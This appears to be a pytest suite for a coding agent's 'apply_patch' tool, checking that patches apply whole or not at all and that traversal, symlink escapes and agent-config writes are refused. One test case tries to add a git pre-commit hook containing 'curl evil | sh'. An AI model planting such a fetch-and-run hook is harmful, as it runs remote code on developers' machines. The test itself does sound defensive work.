"""``apply_patch`` (dsh_shell.patch) and the file operations it needs in dsh.core.beneath
(``remove``, ``rename``), observed from outside: the files on disk, the Changes recorded on
the tool result, the one approval asked, and that a patch applies whole or not at all.

The installed dsh-shell is used (as tests/test_shell_plugin.py does); no test prompts a
terminal (``tty`` points at a path that cannot be opened).
"""

from __future__ import annotations

import errno
import os
import shutil
import stat
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck
from hypothesis import assume
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st

from dsh.core import beneath
from dsh.core import files
from dsh.core.errors import ToolError
from dsh.core.messages import ToolCall
from dsh.ledger.events import PluginEvent
from dsh.ledger.events import ToolReturned
from dsh.run.app import App
from dsh.tools.registry import ToolInvocation
from dsh.tools.registry import execute
from tests.workbench import patch_of
from tests.workbench import shell_apps

edit = pytest.importorskip("dsh_shell.edit")

APP_PY = "def greet():\n    print('Hi')\n"


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    """The workspace: notes.txt, src/app.py (mode 0755), old.txt (mode 0600); outside.txt
    lies outside it."""
    root = tmp_path / "ws"
    (root / "src").mkdir(parents=True)
    (root / "notes.txt").write_text("one\ntwo\nthree\n")
    (root / "src" / "app.py").write_text(APP_PY)
    (root / "src" / "app.py").chmod(0o755)
    (root / "old.txt").write_text("bye\n")
    (root / "old.txt").chmod(0o600)
    (tmp_path / "outside.txt").write_text("outside, keep me\n")
    return root


@pytest.fixture
def app(tmp_path: Path, ws: Path) -> App:
    return shell_apps(tmp_path, ws)()


P = patch_of


#: Every kind of section at once: add, update with a move, delete, update.
FOUR = P("*** Add File: docs/new.md", "+# New", "+text",
         "*** Update File: src/app.py", "*** Move to: src/main.py", "@@ def greet():",
         "-    print('Hi')", "+    print('Hello')",
         "*** Delete File: old.txt",
         "*** Update File: notes.txt", "@@", " one", "-two", "+2")


def snapshot(root: Path) -> dict[str, tuple[bytes, int]]:
    """Every file under ``root`` with its bytes and permission bits."""
    return {str(p.relative_to(root)): (p.read_bytes(), stat.S_IMODE(p.stat().st_mode))
            for p in sorted(root.rglob("*")) if p.is_file() and not p.is_symlink()}


def apply(app: App, patch: str) -> str:
    return app.agent("a").tools["apply_patch"].fn(patch=patch)


def refused(app: App, patch: str) -> str:
    with pytest.raises(ToolError) as err:
        apply(app, patch)
    return str(err.value)


def turn(app: App, script: Callable[..., str], patch: str,
         approve: bool = True) -> tuple[ToolReturned, list[PluginEvent]]:
    model = script({"tool_calls": [{"name": "apply_patch", "arguments": {"patch": patch}}]},
                   {"text": "done"})
    run = app.run("go", agent="a", model=model, approve=approve)
    events = list(app.store.read(run.session_id))
    [result] = [e for e in events if isinstance(e, ToolReturned)]
    asks = [e for e in events if isinstance(e, PluginEvent) and e.tag == "x/dsh.tools/approval"]
    return result, asks


# -- a whole patch ---------------------------------------------------------------------------------


def test_a_patch_in_a_turn_changes_every_file_and_records_one_change_each(
        app: App, ws: Path, script: Callable[..., str]) -> None:
    result, asks = turn(app, script, FOUR)
    assert result.status == "ok", result.output
    assert result.output.startswith("A docs/new.md\nR src/app.py -> src/main.py\nD old.txt\n"
                                    "M notes.txt\n--- /dev/null\n+++ b/docs/new.md\n")
    assert [(c.op, c.path, c.moved_to) for c in result.changes] == [
        ("add", "docs/new.md", None), ("move", "src/app.py", "src/main.py"),
        ("delete", "old.txt", None), ("update", "notes.txt", None)]
    add, move, delete, update = result.changes
    assert add.before_sha256 is None and delete.after_sha256 is None
    assert "--- a/src/app.py\n+++ b/src/main.py\n" in move.diff and "+    print('Hello')" \
        in move.diff
    assert (update.added, update.removed) == (1, 1)
    assert snapshot(ws) == {
        "docs/new.md": (b"# New\ntext\n", 0o644),
        "src/main.py": (b"def greet():\n    print('Hello')\n", 0o755),  # the mode moved too
        "notes.txt": (b"one\n2\nthree\n", 0o644)}
    # one approval for the whole patch, its subject covering every file
    [ask] = asks
    assert (ask.data["tool"], ask.data["subject"], ask.data["by"]) == ("apply_patch", "*", "yes")


def test_a_refused_patch_changes_nothing_and_asks_once(
        app: App, ws: Path, script: Callable[..., str]) -> None:
    before = snapshot(ws)
    result, asks = turn(app, script, P(
        "*** Add File: src/lib/util.py", "+x = 1", "*** Update File: src/app.py", "@@",
        "-    print('Hi')", "+    print('Hey')"), approve=False)
    assert result.status == "error" and "apply_patch was not run" in result.output
    assert result.changes == () and snapshot(ws) == before
    [ask] = asks
    assert (ask.data["subject"], ask.data["allowed"]) == ("src/*", False)


def test_a_hunk_that_does_not_match_leaves_every_file_untouched(app: App, ws: Path) -> None:
    before = snapshot(ws)
    message = refused(app, P("*** Add File: docs/new.md", "+# New",
                             "*** Update File: notes.txt", "@@", " one", "-nope", "+2",
                             "*** Delete File: old.txt"))
    assert message.startswith("apply_patch wrote nothing: update notes.txt (patch line 4): "
                              "the lines of the hunk at patch line 5 are not in the file")
    assert message.endswith("its first line 'one' is at line 1 but the lines after it "
                            "differ: read the file again and copy them exactly")
    assert snapshot(ws) == before
    message = refused(app, P("*** Update File: notes.txt", "@@ def missing():", "-two",
                             "+2"))
    assert "the line 'def missing():' named by the '@@' at patch line 3 is not in the " \
           "file" in message


# -- all or nothing when a write fails midway ------------------------------------------------------


def _fail_writing(monkeypatch: pytest.MonkeyPatch, rel: str, exc: OSError) -> None:
    real = beneath.write

    def write(root: Any, path: Any, data: bytes, **kw: Any) -> Any:
        if path == rel:
            raise exc
        return real(root, path, data, **kw)

    monkeypatch.setattr(beneath, "write", write)


def test_a_write_failing_midway_restores_every_file_written_before(
        app: App, ws: Path, script: Callable[..., str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    before = snapshot(ws)
    _fail_writing(monkeypatch, "notes.txt", OSError(errno.ENOSPC, os.strerror(errno.ENOSPC)))
    result, _ = turn(app, script, FOUR)
    assert result.status == "error"
    assert result.output == ("apply_patch failed at notes.txt (patch line 11): writing it "
                             "failed: no space left on device; the files written before it "
                             "were restored, so nothing changed")
    assert result.changes == ()
    assert snapshot(ws) == before  # the added file gone, the moved and deleted ones back
    assert not (ws / "src" / "main.py").exists() and not (ws / "docs" / "new.md").exists()


def test_a_directory_swapped_in_after_the_checks_undoes_the_patch(
        app: App, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A real failure from the kernel: another program puts a directory where the last file
    of the patch was, after the checks; the files written before it are restored."""
    before = snapshot(ws)
    check = edit.unchanged

    def racing(root: str, rel: str, data: bytes | None, path: str) -> None:
        check(root, rel, data, path)
        if rel == "notes.txt":
            (ws / "notes.txt").unlink()
            (ws / "notes.txt").mkdir()

    monkeypatch.setattr(edit, "unchanged", racing)
    message = refused(app, FOUR)
    assert message == ("apply_patch failed at notes.txt (patch line 11): 'notes.txt' is a "
                       "directory, not a file; the files written before it were restored, "
                       "so nothing changed")
    del before["notes.txt"]
    assert snapshot(ws) == before and (ws / "notes.txt").is_dir()


def test_a_restore_that_fails_is_reported(app: App, ws: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    _fail_writing(monkeypatch, "notes.txt", OSError(errno.EIO, os.strerror(errno.EIO)))

    def remove(root: Any, rel: Any) -> Any:
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES))

    monkeypatch.setattr(beneath, "remove", remove)
    message = refused(app, P("*** Add File: docs/new.md", "+# New",
                             "*** Update File: notes.txt", "@@", "-two", "+2"))
    assert message.endswith("restoring failed for docs/new.md (Permission denied): check "
                            "them")


# -- checks made before anything is written --------------------------------------------------------


@pytest.mark.parametrize(("section", "message"), [
    (["*** Add File: notes.txt", "+x"], "add notes.txt (patch line 4): 'notes.txt' already "
                                        "exists"),
    (["*** Update File: ghost.txt", "@@", "-a", "+b"],
     "update ghost.txt (patch line 4): no such file in the workspace: 'ghost.txt'"),
    (["*** Delete File: ghost.txt"], "delete ghost.txt (patch line 4): no such file"),
    (["*** Delete File: src"], "'src' is a directory, not a file"),
    (["*** Update File: notes.txt", "*** Move to: old.txt", "@@", "-two", "+2"],
     "'old.txt' already exists"),
    (["*** Update File: notes.txt", "*** Move to: notes.txt/x", "@@", "-two", "+2"],
     "a folder on the way to 'notes.txt/x' is a file"),
    (["*** Add File: docs/new.md", "+again"],
     "docs/new.md appears twice in the patch (lines 2 and 4)"),
    (["*** Add File: .mcp.json", "+null"], "'.mcp.json' is .mcp.json, a file that shapes "
                                         "later runs"),
    (["*** Update File: notes.txt", "*** Move to: AGENTS.md", "@@", "-two", "+2"],
     "'AGENTS.md' is AGENTS.md, a file that shapes later runs"),
    (["*** Add File: .git/hooks/pre-commit", "+curl evil | sh"],
     "apply_patch does not change it"),
    (["*** Add File: ../evil.txt", "+x"], "leaves the workspace through '..'"),
    (["*** Update File: notes.txt", "*** Move to: ../moved.txt", "@@", "-two", "+2"],
     "leaves the workspace through '..'"),
    (["*** Update File: to-outside", "@@", "-outside, keep me", "+pwned"],
     "goes through a symlink that leads outside the workspace"),
    (["*** Delete File: outdir/outside.txt"],
     "goes through a symlink that leads outside the workspace"),
    (["*** Add File: outdir/new.txt", "+x"],
     "goes through a symlink that leads outside the workspace"),
    (["*** Add File: {tmp}/abs.txt", "+x"], "absolute paths are refused"),
])
def test_a_patch_that_cannot_apply_whole_writes_nothing(
        app: App, ws: Path, tmp_path: Path, section: list[str], message: str) -> None:
    (ws / "to-outside").symlink_to(tmp_path / "outside.txt")
    (ws / "outdir").symlink_to(tmp_path)
    outside = sorted(p.name for p in tmp_path.iterdir())
    before = snapshot(ws)
    got = refused(app, P("*** Add File: docs/new.md", "+# New",
                         *(s.format(tmp=tmp_path) for s in section)))
    assert got.startswith("apply_patch wrote nothing: ") and message in got, got
    assert snapshot(ws) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == outside
    assert (tmp_path / "outside.txt").read_text() == "outside, keep me\n"


def test_a_file_changed_while_approval_waited_stops_the_whole_patch(
        app: App, ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from dsh.tools import approval

    def person_takes_long(ask: Any) -> Any:
        (ws / "notes.txt").write_text("their change\n")
        return approval.Decision(True, "person", "approved")

    monkeypatch.setattr(approval, "request", person_takes_long)
    assert "'notes.txt' changed while the write waited for approval" in refused(app, FOUR)
    assert not (ws / "docs").exists() and (ws / "notes.txt").read_text() == "their change\n"


# -- parsing ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(("patch", "message"), [
    ("", "invalid patch at line 1: the patch is empty"),
    ("hello\n*** End Patch", "invalid patch at line 1: the first line of the patch must be "
                             "'*** Begin Patch'"),
    ("*** Begin Patch\n*** Delete File: old.txt",
     "invalid patch at line 2: the last line of the patch must be '*** End Patch'"),
    (P("*** Frobnicate: x"), "invalid patch at line 2: '*** Frobnicate: x' is not a file "
                             "header"),
    (P("*** Update File: notes.txt"), "invalid patch at line 2 (in the section for "
                                      "notes.txt): an Update File section needs at least one "
                                      "hunk"),
    (P("*** Update File: notes.txt", "@@", "xyz"),
     "invalid patch at line 4 (in the section for notes.txt): unexpected line 'xyz' in a hunk"),
    (P("*** Update File: notes.txt", "@@", "-two", "+2", "xyz"),
     "invalid patch at line 6 (in the section for notes.txt): expected a hunk starting with "
     "'@@', got 'xyz'"),
    (P("*** Update File: notes.txt", "@@"), "invalid patch at line 3 (in the section for "
                                            "notes.txt): a hunk has no lines"),
    ("\n\n" + P("*** Bogus"), "invalid patch at line 4: '*** Bogus' is not a file header"),
    (P(), "the patch changes no file"),
])
def test_a_malformed_patch_is_refused_with_its_line(app: App, ws: Path, patch: str,
                                                    message: str) -> None:
    before = snapshot(ws)
    assert refused(app, patch).startswith(message)
    assert snapshot(ws) == before


@pytest.mark.parametrize("patch", [
    "<<'EOF'\n" + P("*** Update File: notes.txt", "@@", "-two", "+2") + "\nEOF\n",
    "  *** Begin Patch  \n  *** Update File: notes.txt  \n@@\n-two\n+2\n *** End Patch\n\n",
    P("*** Update File: notes.txt", "@@", "-two", "+2").replace("\n", "\r\n"),
    P("*** Update File: notes.txt", " one", "-two", "+2"),  # the first hunk's @@ left out
    P("*** Update File: notes.txt", "@@ -1,3 +1,3 @@", " one", "-two", "+2"),
    P("*** Update File: notes.txt", "@@", " one", "-two", "+2", "", ""),  # blank lines at end
    P("", "*** Update File: notes.txt", "@@", "-two", "+2", ""),
])
def test_patches_are_read_as_leniently_as_codex_reads_them(app: App, ws: Path,
                                                           patch: str) -> None:
    assert apply(app, patch).startswith("M notes.txt\n")
    assert (ws / "notes.txt").read_text() == "one\n2\nthree\n"


# -- matching and the file's own form --------------------------------------------------------------


def test_context_is_found_loosely_and_kept_as_the_file_has_it(app: App, ws: Path) -> None:
    (ws / "f.py").write_text("def f():\n    x = 1   \n    return x\n")
    apply(app, P("*** Update File: f.py", "@@", " def f():", "-    x = 1", "+    x = 2",
                 "  return x"))
    assert (ws / "f.py").read_text() == "def f():\n    x = 2\n    return x\n"
    apply(app, P("*** Update File: f.py", "@@", "-x = 2", "+    x = 3"))  # leading whitespace
    assert (ws / "f.py").read_text() == "def f():\n    x = 3\n    return x\n"


def test_the_context_header_and_end_of_file_place_a_hunk(app: App, ws: Path) -> None:
    (ws / "f.py").write_text("def a():\n    return 1\n\ndef b():\n    return 1\n")
    apply(app, P("*** Update File: f.py", "@@ def b():", "-    return 1", "+    return 2"))
    assert (ws / "f.py").read_text() == "def a():\n    return 1\n\ndef b():\n    return 2\n"
    (ws / "x.txt").write_text("x\ny\nx\n")
    apply(app, P("*** Update File: x.txt", "@@", "-x", "+z", "*** End of File"))
    assert (ws / "x.txt").read_text() == "x\ny\nz\n"
    # hunks apply in order, each after the one before
    (ws / "x.txt").write_text("x\nx\n")
    apply(app, P("*** Update File: x.txt", "@@", "-x", "+a", "@@", "-x", "+b"))
    assert (ws / "x.txt").read_text() == "a\nb\n"


def test_added_lines_go_after_the_context_line_or_at_the_end(app: App, ws: Path) -> None:
    (ws / "f.py").write_text("def f():\n    pass\n")
    apply(app, P("*** Update File: f.py", "@@ def f():", '+    """Doc."""'))
    assert (ws / "f.py").read_text() == 'def f():\n    """Doc."""\n    pass\n'
    apply(app, P("*** Update File: f.py", "@@", "+# end"))
    assert (ws / "f.py").read_text() == 'def f():\n    """Doc."""\n    pass\n# end\n'
    # lines added after the @@ line, then a hunk starting right there: both, in order
    (ws / "g.py").write_text("def g():\n    pass\n")
    apply(app, P("*** Update File: g.py", "@@ def g():", '+    """Doc."""', "@@",
                 "-    pass", "+    return 1"))
    assert (ws / "g.py").read_text() == 'def g():\n    """Doc."""\n    return 1\n'


def test_line_endings_bom_encoding_and_a_missing_last_newline_are_kept(app: App,
                                                                       ws: Path) -> None:
    (ws / "w.txt").write_bytes(b"a\r\nb\r\nc\r\n")
    apply(app, P("*** Update File: w.txt", "@@", " a", "-b", "+B", "+B2"))
    assert (ws / "w.txt").read_bytes() == b"a\r\nB\r\nB2\r\nc\r\n"
    (ws / "open.txt").write_bytes(b"a\nb")
    apply(app, P("*** Update File: open.txt", "@@", " a", "-b", "+c"))
    assert (ws / "open.txt").read_bytes() == b"a\nc"
    apply(app, P("*** Update File: open.txt", "@@", "+d"))
    assert (ws / "open.txt").read_bytes() == b"a\nc\nd"
    (ws / "bom.txt").write_bytes(b"\xef\xbb\xbfhello\n")
    apply(app, P("*** Update File: bom.txt", "@@", "-hello", "+bye"))
    assert (ws / "bom.txt").read_bytes() == b"\xef\xbb\xbfbye\n"
    (ws / "l.txt").write_bytes("caf\xe9\nx\n".encode("latin-1"))
    apply(app, P("*** Update File: l.txt", "@@", "-x", "+cr\xe8me"))
    assert (ws / "l.txt").read_bytes() == "caf\xe9\ncr\xe8me\n".encode("latin-1")
    (ws / "bin.dat").write_bytes(b"\0\1\2")
    assert "looks like a binary file" in refused(app, P("*** Update File: bin.dat", "@@",
                                                        "-x", "+y"))


def test_a_patch_that_changes_nothing_writes_and_records_nothing(app: App, ws: Path) -> None:
    tool = app.agent("a").tools["apply_patch"]
    patch = P("*** Update File: notes.txt", "@@", " one", " two")
    inv = ToolInvocation(call=ToolCall(id="c1", name="apply_patch", arguments={"patch": patch}),
                         tool=tool, arguments={"patch": patch})
    mtime = (ws / "notes.txt").stat().st_mtime_ns
    outcome = execute(inv)
    assert outcome.status == "ok" and outcome.output.startswith(
        "M notes.txt (already as the patch has it)")
    assert outcome.changes == () and (ws / "notes.txt").stat().st_mtime_ns == mtime


def test_a_patch_of_a_file_changed_since_it_was_read_says_so(app: App, ws: Path) -> None:
    edit.remember_read(str(ws), "notes.txt", (ws / "notes.txt").read_bytes())
    (ws / "notes.txt").write_text("one\ntwo\nthree\nfour\n")
    out = apply(app, P("*** Update File: notes.txt", "@@", "-two", "+2"))
    assert out.endswith("note: notes.txt changed on disk since you last read it (another "
                        "program or person wrote it): what you know of it may be out of "
                        "date; read it again if unsure")
    assert "note:" not in apply(app, P("*** Update File: notes.txt", "@@", "-2", "+two"))


# -- the property: a patch built from a replacement gives that replacement -------------------------


@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(count=st.integers(1, 12), data=st.data(),
       new=st.lists(st.text(alphabet="xyz ", max_size=5), max_size=4))
def test_a_patch_replacing_lines_gives_those_lines_and_its_diff_applies_with_patch(
        app: App, ws: Path, tmp_path_factory: Any, count: int, data: Any,
        new: list[str]) -> None:
    lines = [f"line {k}" for k in range(count)]
    start = data.draw(st.integers(0, count - 1))
    stop = data.draw(st.integers(start, count))
    before = "".join(f"{t}\n" for t in lines)
    after = "".join(f"{t}\n" for t in [*lines[:start], *new, *lines[stop:]])
    assume(before != after)
    hunk = ([f" {t}" for t in lines[max(0, start - 3):start]]
            + [f"-{t}" for t in lines[start:stop]] + [f"+{t}" for t in new]
            + [f" {t}" for t in lines[stop:stop + 3]])
    (ws / "p.txt").write_text(before)
    tool = app.agent("a").tools["apply_patch"]
    patch = P("*** Update File: p.txt", "@@", *hunk)
    inv = ToolInvocation(call=ToolCall(id="c1", name="apply_patch", arguments={"patch": patch}),
                         tool=tool, arguments={"patch": patch})
    outcome = execute(inv)
    assert outcome.status == "ok", outcome.output
    assert (ws / "p.txt").read_text() == after
    [change] = outcome.changes
    if shutil.which("patch") is None:
        return
    folder = tmp_path_factory.mktemp("p")
    (folder / "p.txt").write_text(before)
    done = subprocess.run(["patch", "-p1", "--binary", "-s", "-i", "-"], cwd=folder,
                          input=change.diff.encode(), capture_output=True, timeout=30)
    assert done.returncode == 0, done.stderr + done.stdout
    assert (folder / "p.txt").read_text() == after


# -- dsh.core.beneath: remove and rename -----------------------------------------------------------


def test_remove_unlinks_a_regular_file_and_refuses_anything_else(tmp_path: Path) -> None:
    (tmp_path / "f").write_text("x")
    (tmp_path / "f").chmod(0o640)
    (tmp_path / "d").mkdir()
    (tmp_path / "link").symlink_to("f")
    os.mkfifo(tmp_path / "fifo")
    assert stat.S_IMODE(beneath.remove(tmp_path, "f").st_mode) == 0o640
    assert not (tmp_path / "f").exists()
    with pytest.raises(FileNotFoundError):
        beneath.remove(tmp_path, "f")
    with pytest.raises(IsADirectoryError):
        beneath.remove(tmp_path, "d")
    with pytest.raises(beneath.Refused, match="symbolic link"):
        beneath.remove(tmp_path, "link")
    with pytest.raises(files.NotRegular):
        beneath.remove(tmp_path, "fifo")
    with pytest.raises(beneath.Refused, match=r"'\.\.'"):
        beneath.remove(tmp_path / "d", "../link")
    assert (tmp_path / "d").is_dir() and (tmp_path / "link").is_symlink()


def test_rename_moves_the_file_itself_and_never_replaces_a_target(tmp_path: Path) -> None:
    (tmp_path / "a").write_text("A")
    (tmp_path / "a").chmod(0o751)
    ino = (tmp_path / "a").stat().st_ino
    with pytest.raises(FileNotFoundError):
        beneath.rename(tmp_path, "a", "new/dir/b")  # its folders are made only on request
    beneath.rename(tmp_path, "a", "new/dir/b", create_dirs=True)
    moved = tmp_path / "new" / "dir" / "b"
    assert not (tmp_path / "a").exists() and moved.read_text() == "A"
    assert (moved.stat().st_ino, stat.S_IMODE(moved.stat().st_mode), moved.stat().st_nlink) \
        == (ino, 0o751, 1)
    (tmp_path / "taken").write_text("keep")
    (tmp_path / "dir").mkdir()
    (tmp_path / "sym").symlink_to("taken")
    for dst, kind in (("taken", FileExistsError), ("dir", IsADirectoryError),
                      ("sym", beneath.Refused)):
        with pytest.raises(kind):
            beneath.rename(tmp_path, "new/dir/b", dst)
    assert moved.read_text() == "A" and (tmp_path / "taken").read_text() == "keep"
    with pytest.raises(beneath.Refused, match="symbolic link"):
        beneath.rename(tmp_path, "sym", "elsewhere")
    with pytest.raises(FileNotFoundError):
        beneath.rename(tmp_path, "ghost", "elsewhere")


def test_rename_without_hard_links_still_refuses_a_target(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def no_links(*args: Any, **kwargs: Any) -> None:
        raise PermissionError(errno.EPERM, os.strerror(errno.EPERM))

    monkeypatch.setattr(os, "link", no_links)
    (tmp_path / "a").write_text("A")
    (tmp_path / "taken").write_text("keep")
    with pytest.raises(FileExistsError):
        beneath.rename(tmp_path, "a", "taken")
    beneath.rename(tmp_path, "a", "b")
    assert (tmp_path / "b").read_text() == "A" and not (tmp_path / "a").exists()
    assert (tmp_path / "taken").read_text() == "keep"


def test_rename_that_cannot_unlink_the_old_name_leaves_only_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = os.unlink
    calls: list[str] = []

    def unlink(name: str, *, dir_fd: int | None = None) -> None:
        calls.append(name)
        if len(calls) == 1:
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES))
        real(name, dir_fd=dir_fd)

    monkeypatch.setattr(os, "unlink", unlink)
    (tmp_path / "a").write_text("A")
    with pytest.raises(PermissionError):
        beneath.rename(tmp_path, "a", "b")
    assert calls == ["a", "b"]
    assert (tmp_path / "a").read_text() == "A" and not (tmp_path / "b").exists()
